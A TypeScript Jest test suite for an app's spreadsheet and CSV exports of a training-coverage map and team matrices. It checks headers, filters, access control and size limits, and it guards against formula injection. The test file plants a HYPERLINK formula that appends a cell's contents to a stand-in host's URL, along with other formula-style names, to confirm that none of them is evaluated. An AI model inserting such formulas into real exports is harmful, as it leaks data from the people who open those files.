import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';

import { type Crowd, type CrowdApi, startCrowd } from '../coverage/among.fixture.js';
import type { TestApi } from '../testing/test-api.fixture.js';
import type { RoleName, World } from '../testing/world.fixture.js';
import { mustFitWorkbook } from './exported.js';
import { workbook } from './workbook.js';
import { cellsOf, unzipped } from './workbook.fixture.js';

/** Would run in a spreadsheet that took it for a formula. */
const HOSTILE = `=HYPERLINK("http://x.test?"&A1,"<b>&'open'</b>")`;

let test: TestApi;
let world: World;
let crowd: Crowd;
let cookies: CrowdApi['cookies'];

beforeAll(async () => {
  ({ test, world, crowd, cookies } = await startCrowd('avocet', async (api, { people, teamIds }) => {
    await api.database.admin(`update team_version set name = $2 where team_id = $1`, [teamIds[3], HOSTILE]);
    await api.database.admin(`update person_version set name = '+1' where person_id = $1`, [people.find(({ teamId, roleIds }) => teamId === teamIds[1] && roleIds.length > 0)!.id]);
  }));
}, 180_000);
afterAll(() => test.close());

const get = (path: string, who: RoleName = 'hr') => test.send('GET', path, { cookie: cookies.get(who)! });
const book = async (path: string): Promise<ReadonlyMap<string, string>> => {
  const response = await get(path);
  expect([response.status, response.headers.get('content-type')]).toEqual([200, 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet']);
  return unzipped(Buffer.from(await response.arrayBuffer()));
};
const csv = async (path: string): Promise<number> => (await (await get(path)).text()).trim().split('\r\n').length;

describe('the coverage map as a workbook', () => {
  it('holds the same lines as the CSV, numbers as numbers and text as text', async () => {
    const files = await book('/export/coverage.xlsx');
    const [head, ...rows] = cellsOf(files, 1);
    expect(head).toEqual(['team', 'column', 'required', 'met', 'proven', 'pending']);
    expect(rows).toHaveLength((await csv('/export/coverage.csv')) - 1);
    expect(rows.every(([team, column, ...figures]) => typeof team === 'string' && typeof column === 'string' && figures.length === 4 && figures.every((figure) => typeof figure === 'number'))).toBe(true);
    expect(rows.some(([team]) => String(team).endsWith(HOSTILE))).toBe(true);
    expect([...files.values()].some((xml) => /<f[ >]/.test(xml))).toBe(false);
  });

  it('says whose it is, of which day, what was known when, by which policy, of whom and of how many', async () => {
    const files = await book(`/export/coverage.xlsx?location=Ghent&roleId=${crowd.roleIds[0]!}&teamId=${crowd.teamIds[1]!}`);
    const about = new Map(cellsOf(files, 2).map(([label, value]) => [label, value]));
    expect(about.get('Organisation')).toBe('Organisation avocet');
    expect(about.get('As of the end of')).toMatch(/^\d{4}-\d\d-\d\d \(UTC\)$/);
    expect(about.get('Known at')).toMatch(/^\d{4}-\d\d-\d\dT.*Z$/);
    expect(typeof about.get('Policy version')).toBe('number');
    expect([about.get('Filter: Location'), about.get('Filter: Role'), about.get('Team')]).toEqual(['Ghent', 'Crowd role 0', 'Crowd 1 / Crowd 2']);
    expect(about.get('Denominators')).toContain('people on leave, in grace or exempt leave both sides');
    const several = new Map(cellsOf(await book('/export/coverage.xlsx?location=Riga&location=Ghent&location=Riga'), 2).map(([label, value]) => [label, value]));
    expect(several.get('Filter: Location')).toBe('Ghent or Riga');
    expect(new Map(cellsOf(await book('/export/coverage.xlsx'), 2).map(([label, value]) => [label, value])).get('Filters')).toBe('none: everybody');
  });

  it('leaves empty what must not be shown', async () => {
    const response = await get('/export/coverage.xlsx', 'learning');
    const rows = cellsOf(unzipped(Buffer.from(await response.arrayBuffer())), 1).slice(1);
    const small = rows.filter(([team]) => team === 'Team avocet');
    expect(small.length).toBeGreaterThan(0);
    expect(small.every((row) => row.slice(2).every((figure) => figure === null))).toBe(true);
  });
});

describe('the matrix of a team as a workbook', () => {
  it('has a line for each person and requirement, as the page has a cell', async () => {
    const teamId = crowd.teamIds[1]!;
    const [head, ...rows] = cellsOf(await book(`/export/team.xlsx?teamId=${teamId}`), 1);
    const { data } = await test.ask<{ coverage: { teamMatrix: { state: number[]; level: number[]; held: number[] }; totals: Record<'required' | 'leave' | 'grace' | 'exempt' | 'met', number> } }>(
      cookies.get('hr')!, `{ coverage { ... on Coverage { totals(teamId: "${teamId}") { required met leave grace exempt } teamMatrix(teamId: "${teamId}") { state level held } } } }`);
    const { teamMatrix, totals } = data!.coverage;
    expect(head).toEqual(['person', 'requirement', 'required level', 'held level', 'state', 'grade of the witness', 'valid until']);
    expect(rows).toHaveLength(totals.required + totals.leave + totals.grace + totals.exempt);
    expect(rows.filter(([, , , , state]) => state === 'met')).toHaveLength(totals.met);
    expect(rows.map(([, , level, held]) => [level, held])).toEqual(teamMatrix.state.flatMap((state, at) => (state < 0 ? [] : [[teamMatrix.level[at], teamMatrix.held[at]]])));
    expect(rows.some(([person]) => person === '+1')).toBe(true);
  });

  it('is cut by the filters, and goes to CSV too, where nothing runs either', async () => {
    const [all, some] = [await csv(`/export/team.csv?teamId=${crowd.teamIds[1]!}`), await csv(`/export/team.csv?teamId=${crowd.teamIds[1]!}&jobFamily=Works`)];
    expect(some).toBeLessThan(all);
    expect(await (await get(`/export/team.csv?teamId=${crowd.teamIds[1]!}`)).text()).toMatch(/^'\+1,/m);
  });

  it('is for those who see the people of the team by name, and a team of others is not there', async () => {
    const status = async (who: RoleName, teamId: string) => (await get(`/export/team.xlsx?teamId=${teamId}`, who)).status;
    expect(await Promise.all((['learning', 'employee', 'admin'] as const).map((who) => status(who, world.ids['team']!)))).toEqual([403, 403, 403]);
    expect([await status('lead', world.ids['team']!), await status('lead', crowd.teamIds[1]!), await status('lead', '11111111-1111-4111-8111-111111111111')]).toEqual([200, 404, 404]);
    expect((await get('/export/nothing.xlsx')).status).toBe(404);
    expect((await get('/export/team.xlsx')).status).toBe(400);
    expect((await get('/export/team.xlsx?teamId=x')).status).toBe(400);
  });
});

describe('a workbook', () => {
  it('is refused where it would be too large, before it is made', () => {
    const of = (rows: number) => ({ name: 'x', about: [], head: ['a', 'b', 'c'], rows: Array.from({ length: rows }, () => [1, 2, 3]) });
    expect(() => mustFitWorkbook(of(20_000))).not.toThrow();
    expect(() => mustFitWorkbook(of(20_001))).toThrow('choose a team');
  });

  it('keeps any text that a name may have', async () => {
    const names = ['=1+1', '@SUM(A1)', '-2', '\tx', 'a\u0001b', 'x'.repeat(40_000), '  two  ', 'ü 漢 😀', '<f>1</f>', '__proto__', 'constructor', 'toString'];
    const stream = await workbook({ name: 'names', about: [['x', 'y']], head: ['name'], rows: names.map((name) => [name]) });
    const chunks: Buffer[] = [];
    for await (const chunk of stream) chunks.push(Buffer.from(chunk as Uint8Array));
    const files = unzipped(Buffer.concat(chunks));
    expect(cellsOf(files, 1).slice(1).map(([name]) => name)).toEqual(names.map((name) => name.replace('\u0001', '').slice(0, 32_767)));
    expect(files.get('xl/worksheets/sheet1.xml')).not.toMatch(/<f[ >]/);
  });
});
